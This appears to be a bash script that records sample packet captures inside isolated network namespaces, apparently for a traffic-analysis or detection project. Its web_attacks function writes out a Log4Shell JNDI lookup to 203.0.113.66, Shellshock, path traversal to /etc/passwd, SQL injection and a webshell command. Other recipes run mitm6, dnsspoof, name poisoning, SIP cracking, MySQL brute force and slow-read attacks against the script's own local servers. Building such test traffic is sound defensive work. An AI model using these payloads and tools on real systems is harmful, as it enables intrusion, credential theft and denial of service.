#!/usr/bin/env bash
# Records the captures of this folder between network namespaces of its own, with no way out.
#
#   outside 203.0.113.66 ── router (tap: tcpdump) ── inside 192.168.10.20
#
# usage: pcaps/record.sh NAME...   (names as in INDEX.toml, or `all`); needs root and Debian's
# nmap curl dnsutils dnsmasq-base openssl tcpdump iproute2 ethtool dovecot-imapd inetutils-telnet
# inetutils-telnetd llmnrd dsniff isc-dhcp-client samba slowhttptest mariadb-server, and PyPI's pymodbus 3,
# mitm6 and sipvicious.
set -euo pipefail
cd "$(dirname "$0")"
work=$(mktemp -d)
pids=()
A=rv-out B=rv-tap C=rv-in
OUT=203.0.113.66 IN=192.168.10.20

cleanup() {
    for pid in "${pids[@]}"; do kill "$pid" 2>/dev/null || true; done
    for ns in $A $B $C; do ip netns del $ns 2>/dev/null || true; done
    rm -rf "$work"
}
trap cleanup EXIT

for ns in $A $B $C; do ip netns add $ns; ip -n $ns link set lo up; done
ip link add o0 netns $A type veth peer name o1 netns $B
ip link add i0 netns $C type veth peer name i1 netns $B
for end in "$A o0 $OUT" "$B o1 203.0.113.1" "$B i1 192.168.10.1" "$C i0 $IN"; do
    read -r ns link address <<<"$end"
    ip -n "$ns" addr add "$address/24" dev "$link"
    # Checksums on the wire as they would be on a real one.
    ip netns exec "$ns" ethtool -K "$link" tx off gso off tso off gro off >/dev/null
    ip -n "$ns" link set "$link" up
done
ip -n $A route add default via 203.0.113.1
ip -n $C route add default via 192.168.10.1
ip netns exec $B sysctl -qw net.ipv4.ip_forward=1

out() { ip netns exec $A "$@"; }
inside() { ip netns exec $C "$@"; }
serve() { ip netns exec "$@" >/dev/null 2>&1 & pids+=($!); }

# record NAME COMMAND...: what passes the tap while COMMAND runs, of IPv4 unless $carries says otherwise.
carries=ip
record() {
    local name=$1; shift
    ip netns exec $B tcpdump -q -U -i i1 -s 0 -w "$work/$name.pcap" "$carries" 2>/dev/null &
    local tap=$!
    sleep 0.7
    "$@" || true
    sleep 1
    kill -INT $tap; wait $tap || true
    cp "$work/$name.pcap" "$name.pcap"
    echo "$name.pcap: $(stat -c %s "$name.pcap") bytes"
}

web() {
    mkdir -p "$work/www/cgi-bin" "$work/www/albo"
    printf '<html><body><h1>Comune di Prova</h1></body></html>\n' >"$work/www/index.html"
    printf 'Delibera n. 1\n' >"$work/www/albo/delibera.txt"
    (cd "$work/www" && exec ip netns exec $C python3 -m http.server 80 --bind $IN) >/dev/null 2>&1 &
    pids+=($!)
}

web_attacks() {
    local base=http://$IN
    out curl -s -o /dev/null "$base/index.html"
    out curl -s -o /dev/null --path-as-is "$base/cgi-bin/../../../../../../etc/passwd"
    out curl -s -o /dev/null -A '${jndi:ldap://203.0.113.66:1389/a}' "$base/"
    out curl -s -o /dev/null -A '() { :; }; /bin/bash -c "id"' "$base/cgi-bin/stato.cgi"
    out curl -s -o /dev/null -A 'sqlmap/1.8#stable (https://sqlmap.org)' "$base/albo?id=1%20UNION%20SELECT%20user,password%20FROM%20utenti"
    out curl -s -o /dev/null -A 'Mozilla/5.00 (Nikto/2.5.0)' "$base/.git/config"
    out curl -s -o /dev/null "$base/.env"
    out curl -s -o /dev/null -X POST --data 'cmd=id;cat /etc/passwd' "$base/upload/shell.php"
    out curl -s -o /dev/null "$base/albo/delibera.txt"
}

demo() {
    out nmap -n -Pn -sS -T4 --max-retries 1 -p 1-200,443,445,502,1433,3306,3389,5432,5900,8080 $IN >/dev/null
    web_attacks
}

names() {
    local q="out dig +short +tries=1 +time=1 @$IN"
    for host in www posta; do $q $host.comune.prova.example; $q $host.comune.prova.example AAAA; done
    $q comune.prova.example MX
    $q nulla.comune.prova.example
    $q +tcp www.comune.prova.example
} >/dev/null

plc_server='
import sys
from pymodbus.server import StartTcpServer
from pymodbus.datastore import ModbusSequentialDataBlock, ModbusServerContext, ModbusDeviceContext
block = lambda: ModbusSequentialDataBlock(1, [17] * 100)
store = ModbusDeviceContext(di=block(), co=block(), hr=block(), ir=block())
StartTcpServer(ModbusServerContext(devices=store, single=True), address=(sys.argv[1], 502))
'
plc_client='
import sys
from pymodbus.client import ModbusTcpClient
c = ModbusTcpClient(sys.argv[1]); c.connect()
for i in range(5): c.read_holding_registers(10 * i, count=8)
c.read_coils(0, count=16)
c.write_register(4, 1234); c.write_coil(2, True); c.write_registers(8, [1, 2, 3])
c.read_holding_registers(95, count=30)
c.close()
'

tls_server() {
    openssl req -x509 -newkey rsa:2048 -nodes -days 365 -subj "/C=IT/O=Comune di Prova/CN=sportello.prova.example" \
        -addext subjectAltName=DNS:sportello.prova.example -keyout "$work/k.pem" -out "$work/c.pem" 2>/dev/null
    serve $C openssl s_server -accept 443 -key "$work/k.pem" -cert "$work/c.pem" -www
}

tls_visits() {
    for version in '--tls-max 1.2' '--tlsv1.3'; do
        # shellcheck disable=SC2086
        out curl -sk -o /dev/null $version --resolve sportello.prova.example:443:$IN https://sportello.prova.example/
    done
}

mail_server() {
    mkdir -p "$work/mail" && chown nobody "$work/mail" && chmod 755 "$work"
    cat >"$work/dovecot.conf" <<END
base_dir = $work/run
protocols = imap
listen = $IN
ssl = no
disable_plaintext_auth = no
log_path = $work/dovecot.log
mail_location = maildir:~/Maildir
first_valid_uid = 1
service imap-login {
  chroot =
}
passdb {
  driver = static
  args = password=segreta1
}
userdb {
  driver = static
  args = uid=nobody gid=nogroup home=$work/mail/%u
}
END
    serve $C dovecot -F -c "$work/dovecot.conf"
}

mail_client='
import imaplib, sys
from email.message import EmailMessage
m = EmailMessage()
m["From"], m["To"], m["Subject"] = "anna@prova.example", "bruno@prova.example", "Delibera"
m.set_content("Vedi http://albo.prova.example/delibera\n")
m.add_attachment(b"Delibera n. 1\n", maintype="text", subtype="plain", filename="delibera.txt")
first = imaplib.IMAP4(sys.argv[1])
try: first.login("anna", "sbagliata1")
except imaplib.IMAP4.error: pass
first.login("anna", "segreta1")
first.append("INBOX", None, None, m.as_bytes())
first.select("INBOX"); first.search(None, "ALL"); first.fetch("1", "(FLAGS BODY.PEEK[])")
first.logout()
second = imaplib.IMAP4(sys.argv[1])
second.authenticate("PLAIN", lambda _: b"\0bruno\0segreta1")
second.logout()
'

# A listener for telnetd, which wants to be started with a connection, and what stands for login.
telnet_server='
import os, socket, subprocess, sys
listener = socket.create_server((sys.argv[1], 23))
while True:
    connection, _ = listener.accept()
    subprocess.Popen(["telnetd", "-h", "-E", sys.argv[2]], stdin=connection, stdout=connection)
    connection.close()
'
telnet_login='#!/bin/sh
while true; do
    printf "sportello login: "; read -r user || exit
    stty -echo; printf "Password: "; read -r password || exit; stty echo; echo
    [ "$password" = segreta1 ] && break
    echo "Login incorrect"
done
echo "Last login: Mon Nov 30 08:00:00 on pts/0"
while printf "%s@sportello:~$ " "$user"; do
    read -r command || exit
    case $command in exit) exit ;; *) echo "Comune di Prova" ;; esac
done
'
telnet_client='
import os, pty, sys, time
child, end = pty.fork()
if child == 0: os.execvp("inetutils-telnet", ["inetutils-telnet", sys.argv[1]])
seen = b""
for wanted, said in [(b"login: ", b"anna\r"), (b"Password: ", b"sbagliata1\r"), (b"login: ", b"anna\r"),
                     (b"Password: ", b"segreta1\r"), (b"$ ", b"uname\r"), (b"$ ", b"exit\r")]:
    while wanted not in seen: seen += os.read(end, 1024)
    seen = b""; time.sleep(0.2); os.write(end, said)
time.sleep(1)
'

# A machine that has one name; then another in its place that takes each name that is asked for.
neighbours() {
    local host ask="ip netns exec $B llmnr-query -I i1 -t 300"
    $ask -T A sportello; $ask -T A nessuno
    kill "${pids[0]}"
    for host in wpad srv-archivio stampante-2; do
        serve $C llmnrd -i i0 -H $host; sleep 0.4
        $ask -T A $host
        kill "${pids[-1]}"
    done
} >/dev/null

# Questions to a name server, some of which somebody on the way answers too.
forged() {
    local host
    for host in www posta banca pagamenti; do
        inside dig +short +noedns +tries=1 +time=1 @$OUT $host.prova.example
        sleep 0.5
    done
} >/dev/null

# Answers whoever asks for a name of NetBIOS that it is the machine's.
namesake='
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("", 137))
while True:
    asked, who = s.recvfrom(1500)
    if asked[2] & 0xf8 == 0:
        name = asked[12:46]
        s.sendto(asked[:2] + b"\x85\0\0\0\0\1\0\0\0\0" + name + b"\0\x20\0\1\0\0\0\xa5\0\6\0\0" + socket.inet_aton(sys.argv[1]), who)
'
# A machine of NetBIOS that has one name, then one in its place that takes each name that is asked for.
workgroup() {
    local host ask="ip netns exec $B nmblookup -s /dev/null -B 192.168.10.255"
    mkdir -p "$work/samba"
    cat >"$work/samba/smb.conf" <<END
[global]
netbios name = SPORTELLO
workgroup = COMUNE
interfaces = i0
bind interfaces only = yes
local master = no
lock directory = $work/samba
state directory = $work/samba
cache directory = $work/samba
pid directory = $work/samba
private dir = $work/samba
log file = $work/samba/log
END
    serve $C nmbd -F --no-process-group -s "$work/samba/smb.conf"; sleep 8
    $ask SPORTELLO; $ask NESSUNO
    kill "${pids[-1]}"; sleep 1
    serve $C python3 -c "$namesake" $IN; sleep 0.5
    for host in WPAD SRV-ARCHIVIO STAMPANTE-2 NAS SRV-POSTA; do $ask $host; done
    kill "${pids[-1]}"
} >/dev/null 2>&1

# Three machines that look for a server of DHCPv6, where a stranger is the only one.
newcomers() {
    local number
    printf 'send fqdn.fqdn "pc-1.prova.example";\nalso request dhcp6.name-servers;\n' >"$work/dhclient.conf"
    for number in 1 2 3; do
        ip -n $C link set i0 down; ip -n $C link set i0 address 02:00:00:00:01:0$number; ip -n $C link set i0 up
        sleep 2.5
        inside timeout 8 dhclient -6 -1 -sf /bin/true -cf "$work/dhclient.conf" -lf "$work/lease$number" \
            -pf "$work/dhclient$number" i0 || true
        kill "$(cat "$work/dhclient$number")" 2>/dev/null || true
    done
} >/dev/null 2>&1

# A telephone exchange with one extension, whose password nobody has; each refusal asks for a new proof.
exchange='
import re, secrets, socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind((sys.argv[1], 5060))
while True:
    asked, who = s.recvfrom(4000)
    lines = asked.decode(errors="replace").split("\r\n")
    same = [line for line in lines if re.match("(via|from|to|call-id|cseq):", line, re.I)]
    if not lines[0].startswith("REGISTER"): continue
    here = any(re.match("to:.*sip:100@", line, re.I) for line in same)
    asks = "WWW-Authenticate: Digest algorithm=MD5, realm=\"prova\", nonce=\"%s\"" % secrets.token_hex(8)
    says = ["SIP/2.0 401 Unauthorized", asks] if here else ["SIP/2.0 404 Not Found"]
    s.sendto("\r\n".join(says + same + ["Content-Length: 0", "", ""]).encode(), who)
'

database() {
    mkdir -p "$work/data"; chmod 755 "$work"
    mariadb-install-db --auth-root-authentication-method=normal --user=root --datadir="$work/data" >/dev/null 2>&1
    serve $C mariadbd --user=root --datadir="$work/data" --bind-address=$IN --socket="$work/data/socket" \
        --pid-file="$work/data/pid" --skip-name-resolve
    for _ in $(seq 50); do [ -S "$work/data/socket" ] && break; sleep 0.2; done
    inside mariadb -S "$work/data/socket" -e "create database anagrafe; create user 'anna'@'%' identified by 'segreta1'; grant all on anagrafe.* to 'anna'@'%'"
}

# Twenty-five wrong passwords, then the right one.
guesses() {
    local number ask="out mariadb --skip-ssl -h $IN -u anna anagrafe"
    for number in $(seq 25); do $ask -psbagliata$number -e 'select 1'; done
    $ask -psegreta1 -e 'select 1'
} >/dev/null 2>&1

wait_port() { for _ in $(seq 50); do out nc -z -w1 $IN "$1" 2>/dev/null && return; sleep 0.1; done; }

one() {
    case $1 in
    demo) web; wait_port 80; record demo demo ;;
    web-attacks) web; wait_port 80; record web-attacks web_attacks ;;
    scan-vertical) record scan-vertical out nmap -n -Pn -sS -T4 --max-retries 0 -p 1-120 $IN ;;
    scan-horizontal) record scan-horizontal inside nmap -n -Pn -sS -T4 --max-retries 0 -p 445 203.0.113.64/27 ;;
    dns)
        serve $C dnsmasq -k --no-resolv --no-hosts --listen-address=$IN --bind-interfaces --pid-file= \
            --address=/www.comune.prova.example/192.0.2.10 --mx-host=comune.prova.example,posta.comune.prova.example,10 \
            --address=/posta.comune.prova.example/192.0.2.11 --local=/prova.example/
        sleep 0.5; record dns names ;;
    modbus) serve $C python3 -c "$plc_server" $IN; wait_port 502; record modbus out python3 -c "$plc_client" $IN ;;
    imap) mail_server; wait_port 143; record imap out python3 -c "$mail_client" $IN ;;
    telnet)
        printf '%s' "$telnet_login" >"$work/login"; chmod 755 "$work" "$work/login"
        serve $C python3 -c "$telnet_server" $IN "$work/login"
        sleep 0.5; TERM=xterm record telnet out python3 -c "$telnet_client" $IN ;;
    llmnr) serve $C llmnrd -i i0 -H sportello; sleep 0.4; record llmnr neighbours ;;
    dns-spoofing)
        serve $A dnsmasq -k --no-resolv --no-hosts --listen-address=$OUT --bind-interfaces --pid-file= \
            --address=/prova.example/203.0.113.80
        printf '192.168.10.66 posta.prova.example\n192.168.10.66 banca.prova.example\n192.168.10.66 pagamenti.prova.example\n' >"$work/forged"
        serve $B dnsspoof -i i1 -f "$work/forged"
        sleep 0.8; record dns-spoofing forged ;;
    dhcpv6)
        sleep 3; serve $B mitm6 -i i1 -d prova.example --no-ra
        sleep 3; touch "$work/lease"{1,2,3}; chmod 755 "$work"
        carries='udp port 546 or udp port 547' record dhcpv6 newcomers ;;
    nbns) carries='udp port 137' record nbns workgroup ;;
    sip)
        serve $C python3 -c "$exchange" $IN; sleep 0.5
        record sip out sipvicious_svcrack -u 100 -r 1-40 $IN ;;
    ip-protocols) record ip-protocols out nmap -n -Pn -sO --max-retries 0 $IN ;;
    slow-read)
        web; wait_port 80; head -c 20000 /dev/zero | tr '\0' x >"$work/www/long.html"
        record slow-read out timeout 14 slowhttptest -X -c 40 -r 40 -w 1 -y 2 -n 2 -z 1 -l 12 -u http://$IN/long.html ;;
    mysql) database; record mysql guesses ;;
    tls) tls_server; wait_port 443; record tls tls_visits ;;
    *) echo "no recipe for $1" >&2; exit 2 ;;
    esac
    for pid in "${pids[@]}"; do kill "$pid" 2>/dev/null || true; done
    pids=()
    sleep 0.3
}

[ "${1:-}" = all ] && set -- demo web-attacks scan-vertical scan-horizontal dns modbus tls imap telnet llmnr dns-spoofing dhcpv6 nbns sip ip-protocols slow-read mysql
[ $# -gt 0 ] || { sed -n '2,9p' "$0"; exit 2; }
for name in "$@"; do one "$name"; done
